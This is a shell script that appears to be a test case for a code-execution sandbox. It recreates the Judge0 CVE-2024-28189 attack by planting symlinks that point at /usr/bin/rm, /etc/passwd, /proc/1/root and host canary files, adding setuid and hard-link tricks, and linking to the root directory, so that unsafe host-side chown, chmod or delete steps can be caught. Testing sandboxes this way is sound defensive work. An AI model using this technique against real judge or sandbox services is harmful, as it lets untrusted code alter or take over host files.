# E9 (Judge0 CVE-2024-28189): symlinks and hard links named like every file
# the host side might chown, chmod, copy or delete after the step. The
# public exploit made the worker chown /bin/rm through `run`; here every
# target is a host file whose owner, mode and content the runner checks.
# $1 is the runner's canary file, $2 its world-writable bait file.
set -u
canary=$1
bait=$2
for f in * .[!.]*; do
  [ -e "$f" ] || [ -L "$f" ] || continue
  rm -rf -- "$f"
done
i=0
for name in run compile run.sh compile.sh main main.sh script.sh source.sh a.out \
            stdin stdout stderr input output meta result result.json box tmp; do
  case $((i % 5)) in
    0) ln -s /usr/bin/rm "$name" ;;
    1) ln -s "$canary" "$name" ;;
    2) ln -s "$bait" "$name" ;;
    3) ln -s /etc/passwd "$name" ;;
    4) ln -s /proc/1/root/usr/bin/rm "$name" ;;
  esac
  i=$((i + 1))
done
# hard links of our own files under other names (only these can be made)
echo data > own
ln own hard-run 2>/dev/null
ln own hard-meta 2>/dev/null
chmod 4777 own
# a directory symlink into the host: a recursive delete must not follow it
ln -s / rootlink
ln -s /usr dirlink
mkdir -p sub && ln -s /etc/passwd sub/passwd
echo "links planted: $(find . -maxdepth 2 -type l | wc -l)"
